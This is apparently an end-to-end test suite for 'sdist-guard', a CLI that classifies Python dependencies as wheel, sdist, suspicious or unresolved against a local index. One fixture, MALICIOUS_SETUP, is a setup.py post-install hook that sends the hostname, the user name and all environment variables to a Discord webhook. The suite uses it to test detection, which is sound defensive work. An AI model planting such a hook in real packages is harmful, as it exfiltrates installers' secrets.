// End to end: the CLI against a real index server on 127.0.0.1 serving wheels and sdists built here.

import { startIndexServer } from './helpers/index-server.js';
import { makeSdist, makeWheel } from './helpers/archives.js';
import { makeProject, runCli } from './helpers/project.js';

type Server = Awaited<ReturnType<typeof startIndexServer>>;

const MALICIOUS_SETUP = `
import os, socket, requests
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        data = {"host": socket.gethostname(), "user": os.getlogin(), "env": dict(os.environ)}
        requests.post("https://discord.com/api/webhooks/1234567890/AbCdEfGhIjKlMnOp", json=data)
        install.run(self)

setup(name="evilpkg", version="1.0", cmdclass={"install": PostInstall})
`;

function wheel(name: string, version: string, tag = 'py3-none-any', extra: Record<string, unknown> = {}) {
  return { ...makeWheel(name, version, tag), ...extra };
}
function sdist(name: string, version: string, files: Record<string, string> = {}, extra: Record<string, unknown> = {}) {
  return { ...makeSdist(name, version, files), ...extra };
}

function projects() {
  return {
    purelib: [wheel('purelib', '1.0'), sdist('purelib', '1.0')],
    onlysdist: [sdist('onlysdist', '0.5')],
    native: [
      wheel('native', '2.0', 'cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64'),
      wheel('native', '2.0', 'cp311-cp311-win_amd64'),
      sdist('native', '2.0'),
    ],
    'newer-sdist': [wheel('newer_sdist', '1.0'), sdist('newer_sdist', '1.0'), sdist('newer_sdist', '1.1')],
    yanky: [wheel('yanky', '1.9'), wheel('yanky', '2.0', 'py3-none-any', { yanked: 'broken build' })],
    pyreq: [wheel('pyreq', '2.0', 'py3-none-any', { requiresPython: '>=3.8' }), wheel('pyreq', '3.0', 'py3-none-any', { requiresPython: '>=3.13' })],
    prerel: [wheel('prerel', '1.0'), wheel('prerel', '2.0b1')],
    winonly: [wheel('winonly', '1.0', 'py3-none-win_amd64')],
    evilpkg: [sdist('evilpkg', '1.0', { 'setup.py': MALICIOUS_SETUP })],
  };
}

describe('sdist-guard scan (CLI, local index)', () => {
  let server: Server;
  beforeAll(async () => {
    server = await startIndexServer({ projects: projects() });
  });
  afterAll(async () => {
    await server.close();
  });

  it('decides wheel, sdist, suspicious, unresolved and skipped per dependency and reports JSON', async () => {
    const project = makeProject({
      'requirements.txt': [
        'purelib==1.0',
        'onlysdist',
        'native==2.0',
        'newer-sdist',
        'yanky',
        'pyreq',
        'prerel',
        'winonly ; sys_platform == "win32"',
        'does-not-exist==1.0',
        'gitdep @ git+http://127.0.0.1:9/repo.git@v1',
        '',
      ].join('\n'),
      'pyproject.toml': '[project]\nname = "app"\nversion = "0"\ndependencies = [\n  "evilpkg>=1",\n]\n',
    });
    try {
      const run = await runCli(['scan', '.', '--index-url', server.indexUrl, '--format', 'json'], { cwd: project.dir });
      const report = JSON.parse(run.stdout);
      expect(run.code).toBe(1);
      expect(report.schemaVersion).toBe(2);
      expect(report.targets).toEqual([{ python: '3.12', platform: 'manylinux_2_39_x86_64' }]);
      const byName = Object.fromEntries(report.dependencies.map((d: { name: string }) => [d.name, d]));
      expect(byName['purelib']).toMatchObject({ status: 'wheel', version: '1.0', targets: [{ kind: 'wheel', file: 'purelib-1.0-py3-none-any.whl' }] });
      expect(byName['onlysdist']).toMatchObject({ status: 'sdist', version: '0.5', targets: [{ kind: 'sdist', file: 'onlysdist-0.5.tar.gz' }] });
      expect(byName['native'].targets[0].file).toBe('native-2.0-cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64.whl');
      expect(byName['newer-sdist']).toMatchObject({ status: 'sdist', version: '1.1' });
      expect(byName['yanky']).toMatchObject({ status: 'wheel', version: '1.9' });
      expect(byName['pyreq']).toMatchObject({ status: 'wheel', version: '2.0' });
      expect(byName['prerel']).toMatchObject({ status: 'wheel', version: '1.0' });
      expect(byName['winonly']).toMatchObject({ status: 'skipped' });
      expect(byName['does-not-exist']).toMatchObject({ status: 'unresolved' });
      // a git reference is checked out to be analyzed; one that cannot be is not checked, never passed
      expect(byName['gitdep']).toMatchObject({ status: 'unresolved' });
      expect(byName['gitdep'].reason).toMatch(/^not checked: pip would clone and build git\+http:\/\/127\.0\.0\.1:9\/repo\.git@v1/);
      expect(byName['evilpkg'].status).toBe('suspicious');
      expect(byName['evilpkg'].findings.length).toBeGreaterThan(0);
      expect(byName['evilpkg'].sources).toEqual([{ path: 'pyproject.toml', line: 5, requirement: 'evilpkg>=1' }]);
      expect(byName['onlysdist'].sources).toEqual([{ path: 'requirements.txt', line: 2, requirement: 'onlysdist' }]);
      // the sixth wheel is setuptools, which pip installs to build the sdists
      expect(report.summary).toEqual({ wheel: 6, sdist: 2, suspicious: 1, malicious: 0, unresolved: 2, skipped: 1 });
      expect(byName['setuptools'].via.at(-1)).toBe('(build) setuptools');
      // the VCS reference never went to the index
      expect(server.requests.some((r) => r.path.includes('gitdep'))).toBe(false);
    } finally {
      project.cleanup();
    }
  });

  it('checks every target pair and takes the worst outcome', async () => {
    const project = makeProject({ 'requirements.txt': 'native==2.0\n' });
    try {
      const run = await runCli(
        ['scan', '--index-url', server.indexUrl, '--format', 'json', '--python-version', '3.11,3.12', '--platform', 'linux', '--platform', 'windows', '--no-analyze'],
        { cwd: project.dir },
      );
      const report = JSON.parse(run.stdout);
      const native = report.dependencies[0];
      expect(native.status).toBe('sdist');
      const kinds = Object.fromEntries(native.targets.map((t: { python: string; platform: string; kind: string }) => [`${t.python}/${t.platform}`, t.kind]));
      expect(kinds).toEqual({
        '3.11/manylinux_2_39_x86_64': 'sdist',
        '3.11/win_amd64': 'wheel',
        '3.12/manylinux_2_39_x86_64': 'wheel',
        '3.12/win_amd64': 'sdist',
      });
      expect(native.reason).toMatch(/on 2 of 4 targets/);
      expect(run.code).toBe(0);
    } finally {
      project.cleanup();
    }
  });

  it('honors --prefer-binary, --only-binary and --no-binary from the requirements file', async () => {
    const project = makeProject({
      'requirements.txt': '--prefer-binary\nnewer-sdist\n',
      'requirements-strict.txt': '--only-binary :all:\nonlysdist\n',
      'requirements-src.txt': '--no-binary purelib\npurelib==1.0\n',
    });
    try {
      const run = await runCli(['scan', '.', '--index-url', server.indexUrl, '--format', 'json', '--no-analyze'], { cwd: project.dir });
      const byName = Object.fromEntries(JSON.parse(run.stdout).dependencies.map((d: { name: string }) => [d.name, d]));
      expect(byName['newer-sdist']).toMatchObject({ status: 'wheel', version: '1.0' });
      expect(byName['onlysdist'].status).toBe('unresolved');
      expect(byName['onlysdist'].reason).toMatch(/only-binary/);
      expect(byName['purelib'].status).toBe('sdist');
      expect(byName['purelib'].reason).toMatch(/no-binary/);
    } finally {
      project.cleanup();
    }
  });

  it('fails the gate on what --fail-on names, and only reports with none', async () => {
    const project = makeProject({ 'requirements.txt': 'onlysdist\npurelib==1.0\n' });
    try {
      const args = ['scan', '--index-url', server.indexUrl, '--no-analyze'];
      expect((await runCli([...args, '--fail-on', 'sdist'], { cwd: project.dir })).code).toBe(1);
      expect((await runCli([...args], { cwd: project.dir })).code).toBe(0);
      const text = await runCli([...args, '--fail-on', 'none'], { cwd: project.dir });
      expect(text.code).toBe(0);
      expect(text.stdout).toMatch(/onlysdist\s+0\.5\s+requirements\.txt:1/);
      expect(text.stdout).toMatch(/Summary: 1 wheel, 1 sdist, 0 suspicious, 0 malicious, 0 unresolved, 0 skipped/);
    } finally {
      project.cleanup();
    }
  });

  it('looks each distinct name up once however many files mention it', async () => {
    const project = makeProject({
      'a/requirements.txt': 'purelib==1.0\nonlysdist\n',
      'b/requirements.txt': 'purelib==1.0\nonlysdist\n',
      'pyproject.toml': '[project]\nname="x"\nversion="0"\ndependencies=["purelib==1.0", "onlysdist"]\n',
    });
    try {
      const before = server.requests.length;
      const run = await runCli(['scan', '--index-url', server.indexUrl, '--format', 'json', '--python-version', '3.11,3.12,3.13'], { cwd: project.dir });
      const pages = server.requests.slice(before).filter((r) => r.path.startsWith('/simple/'));
      // and setuptools once, to build the sdist onlysdist
      expect(pages.map((r) => r.path).sort()).toEqual(['/simple/onlysdist/', '/simple/purelib/', '/simple/setuptools/']);
      const report = JSON.parse(run.stdout);
      const only = report.dependencies.find((d: { name: string }) => d.name === 'onlysdist');
      expect(only.sources).toHaveLength(3);
      // the sdist was downloaded once for three targets and three sources
      expect(server.requests.slice(before).filter((r) => r.path === '/files/onlysdist-0.5.tar.gz')).toHaveLength(1);
    } finally {
      project.cleanup();
    }
  });

  it('exits 2 with a message for configuration errors', async () => {
    const project = makeProject({ 'requirements.txt': 'purelib\n' });
    try {
      for (const [args, pattern] of [
        [['scan', '--python-version', '2.7'], /python-version/],
        [['scan', '--platform', 'solaris'], /platform/],
        [['scan', '--fail-on', 'wheel'], /fail-on.*"wheel"/],
        [['scan', '--format', 'xml'], /--format/],
        [['scan', '--concurrency', '0'], /concurrency/],
        [['scan', '--index-url', 'not a url'], /index-url/],
        [['scan', '--bogus'], /bogus/],
        [['frobnicate'], /unknown command/],
      ] as Array<[string[], RegExp]>) {
        const run = await runCli(args, { cwd: project.dir });
        expect({ args, code: run.code }).toEqual({ args, code: 2 });
        expect(run.stderr).toMatch(pattern);
      }
    } finally {
      project.cleanup();
    }
  });

  it('prints help and version', async () => {
    const help = await runCli(['--help'], { cwd: '/' });
    expect(help.code).toBe(0);
    expect(help.stdout).toMatch(/sdist-guard scan/);
    const version = await runCli(['--version'], { cwd: '/' });
    expect(version.stdout.trim()).toMatch(/^\d+\.\d+\.\d+$/);
  });

  it('draws a progress line on a terminal, and none otherwise', async () => {
    const project = makeProject({ 'requirements.txt': 'purelib==1.0\n' });
    try {
      const tty = await runCli(['scan', '--index-url', server.indexUrl], { cwd: project.dir, isTTY: true });
      expect(tty.stderr).toMatch(/checked \d+\/1 dependencies/);
      const pipe = await runCli(['scan', '--index-url', server.indexUrl], { cwd: project.dir });
      expect(pipe.stderr).toBe('');
    } finally {
      project.cleanup();
    }
  });

  it('writes the report to --output', async () => {
    const project = makeProject({ 'requirements.txt': 'purelib==1.0\n' });
    try {
      const run = await runCli(['scan', '--index-url', server.indexUrl, '--format', 'markdown', '--output', 'out.md'], { cwd: project.dir });
      expect(run.stdout).toBe('');
      const { readFileSync } = await import('node:fs');
      expect(readFileSync(`${project.dir}/out.md`, 'utf8')).toMatch(/## sdist-guard: ✅ passed/);
    } finally {
      project.cleanup();
    }
  });
});

describe('sdist-guard scan against an HTML-only index', () => {
  it('falls back to PEP 503 HTML and reaches the same decisions', async () => {
    const server = await startIndexServer({ projects: projects(), mode: 'html' });
    const project = makeProject({ 'requirements.txt': 'purelib==1.0\nonlysdist\nyanky\npyreq\n' });
    try {
      const run = await runCli(['scan', '--index-url', server.indexUrl, '--format', 'json', '--no-analyze'], { cwd: project.dir });
      const byName = Object.fromEntries(JSON.parse(run.stdout).dependencies.map((d: { name: string; status: string; version: string }) => [d.name, [d.status, d.version]]));
      expect(byName).toEqual({ purelib: ['wheel', '1.0'], onlysdist: ['sdist', '0.5'], yanky: ['wheel', '1.9'], pyreq: ['wheel', '2.0'] });
    } finally {
      project.cleanup();
      await server.close();
    }
  });
});
